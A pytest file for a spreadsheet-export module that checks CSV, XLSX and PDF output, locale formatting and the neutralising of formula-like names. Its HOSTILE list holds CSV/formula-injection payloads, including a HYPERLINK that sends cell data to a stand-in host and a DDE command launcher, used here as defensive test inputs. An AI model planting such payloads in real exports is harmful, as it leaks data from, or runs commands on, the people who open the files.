"""Tables as files: read back by other programs, with what people and attackers type into names."""

import csv
import io
import subprocess
import sys
from collections.abc import Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from arus_runtime.sheets import Column, Format, Row, Sheet, about, file_name, guarded, open_sheet
from arus_runtime.words import Language
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

HOSTILE = [
    '=HYPERLINK("http://jahat.example/"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
COLUMNS = (
    Column("Tanggal", "date", 12),
    Column("Lokasi", width=20),
    Column("Volume (L)", "litres"),
    Column("Catatan", "count"),
    Column("Skor", "percent"),
    Column("Dicatat", "moment", 18),
)
ROW: Row = (
    date(2025, 1, 10),
    "Gudang A",
    Decimal("520.5"),
    3,
    Decimal("173.3"),
    datetime.fromisoformat("2025-01-10T17:15"),
)


def sheet(language: Language = "id", columns: Sequence[Column] = COLUMNS, *, mark: bool = True) -> Sheet:
    return Sheet("Transaksi BBM", ["Dari 1 Jan 2025"], columns, language, mark)


def written(path: Path, kind: Format, of: Sheet, *chunks: Sequence[Row]) -> Path:
    with open_sheet(path, kind, of) as file:
        for rows in chunks:
            file.add(rows)
    return path


def test_a_file_says_what_it_was_asked_for_and_when_it_was_made() -> None:
    at, first, last = datetime.fromisoformat("2025-12-14T23:30Z"), date(2025, 12, 1), date(2025, 12, 31)
    assert about("en", at, [("Rayon", "34"), ("Type", None)], (first, last)) == [
        "From 1 Dec 2025 to 31 Dec 2025", "Rayon: 34", "Made 15 Dec 2025 06:30 WIB",
    ]  # fmt: skip
    assert about("id", at, [], (None, None)) == ["Semua tanggal", "Dibuat 15 Des 2025 06.30 WIB"]
    assert about("id", at, [], timezone="Asia/Jayapura") == ["Dibuat 15 Des 2025 08.30 WIT"]
    assert file_name("pembayaran", None, last) == "pembayaran-2025-12-31"


def pages(path: Path) -> list[str]:
    return [page.extract_text() for page in PdfReader(path).pages]


def test_csv_is_what_a_spreadsheet_of_the_language_reads(tmp_path: Path) -> None:
    indonesian = written(tmp_path / "id.csv", "csv", sheet(), [ROW]).read_bytes()
    assert indonesian.startswith(b"\xef\xbb\xbf")
    assert indonesian.decode("utf-8-sig").split("\r\n") == [
        "Tanggal;Lokasi;Volume (L);Catatan;Skor;Dicatat",
        "2025-01-10;Gudang A;520,5;3;173,3;2025-01-10 17:15:00",
        "",
    ]
    english = written(tmp_path / "en.csv", "csv", sheet("en", mark=False), [ROW]).read_bytes()
    assert english.splitlines()[1] == b"2025-01-10,Gudang A,520.5,3,173.3,2025-01-10 17:15:00"


def test_xlsx_has_dates_numbers_and_a_head_that_stays(tmp_path: Path) -> None:
    nothing: Row = (None,) * len(COLUMNS)
    path = written(tmp_path / "a.xlsx", "xlsx", sheet(), [ROW], [nothing])
    book = openpyxl.load_workbook(path)
    page: Any = book.worksheets[0]
    assert [cell.value for cell in page[1]] == [column.name for column in COLUMNS]
    assert [cell.value for cell in page[2]] == [
        datetime.fromisoformat("2025-01-10"),
        "Gudang A",
        520.5,
        3,
        173.3,
        datetime.fromisoformat("2025-01-10T17:15"),
    ]
    assert [cell.data_type for cell in page[2]] == ["d", "s", "n", "n", "n", "d"]
    assert [cell.value for cell in page[3]] == [None] * len(COLUMNS)
    assert page.freeze_panes == "A2"
    assert page.auto_filter.ref == "A1:F3"
    assert [row[0].value for row in book.worksheets[1].iter_rows()] == ["Transaksi BBM", "Dari 1 Jan 2025"]


def test_a_workbook_keeps_a_date_it_has_no_number_for_and_money_as_a_number(tmp_path: Path) -> None:
    columns = (Column("Tanggal", "date"), Column("Jumlah", "rupiah"))
    rows: list[Row] = [(date(1812, 1, 10), Decimal("-1500.50"))]
    page: Any = openpyxl.load_workbook(
        written(tmp_path / "a.xlsx", "xlsx", sheet("id", columns), rows)
    ).worksheets[0]
    assert [cell.value for cell in page[2]] == ["1812-01-10", -1500.5]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_that_looks_like_a_formula_stays_a_name(tmp_path: Path, text: str) -> None:
    one = sheet("en", [Column("Name")])
    lines = written(tmp_path / "a.csv", "csv", one, [[text]]).read_bytes().decode("utf-8-sig")
    [_, [cell]] = csv.reader(io.StringIO(lines, newline=""))
    assert cell == f"'{text}"
    page: Any = openpyxl.load_workbook(written(tmp_path / "a.xlsx", "xlsx", one, [[text]])).worksheets[0]
    assert page["A2"].data_type == "s"
    assert page["A2"].quotePrefix
    assert page["A2"].value.replace("_x000D_", "\r") == text


@given(st.text(max_size=40))
def test_nothing_guarded_begins_like_a_formula_and_nothing_else_is_touched(text: str) -> None:
    kept = guarded(text)
    assert kept[:1] not in set("=+-@\t\r\n＝＋－＠") | {"'"} - {text[:1]} or kept == f"'{text}"
    assert kept.removeprefix("'") == text.removeprefix("'") or kept == text


def test_a_pdf_repeats_its_head_and_counts_its_pages(tmp_path: Path) -> None:
    path = written(tmp_path / "a.pdf", "pdf", sheet(), [ROW] * 60, [ROW] * 40)
    texts = pages(path)
    assert len(texts) > 1
    for number, text in enumerate(texts, start=1):
        assert "Volume (L)" in text
        assert f"Halaman {number} dari" in text
    assert sum(text.count("10 Jan 2025") for text in texts) == 100
    assert "520,5" in texts[0]
    assert "Page 1 of" in pages(written(tmp_path / "b.pdf", "pdf", sheet("en"), [ROW]))[0]


def test_a_pdf_survives_long_names_and_letters_its_font_lacks(tmp_path: Path) -> None:
    odd: Row = (date(2025, 1, 1), "仓库\x00\n" + "panjang " * 60, None, None, None, None)
    [text] = pages(written(tmp_path / "a.pdf", "pdf", sheet(), [odd]))
    assert "??" in text
    assert "…" in text


def test_the_same_rows_make_the_same_pdf(tmp_path: Path) -> None:
    first, second = (written(tmp_path / name, "pdf", sheet(), [ROW]).read_bytes() for name in ("a", "b"))
    assert first == second


def test_a_service_that_starts_loads_no_library_of_files() -> None:
    loaded = (
        "import arus_runtime.web.exports, sys; print({'reportlab', 'xlsxwriter', 'PIL'} & set(sys.modules))"
    )
    answer = subprocess.run([sys.executable, "-c", loaded], capture_output=True, text=True, check=True)
    assert answer.stdout.strip() == "set()"
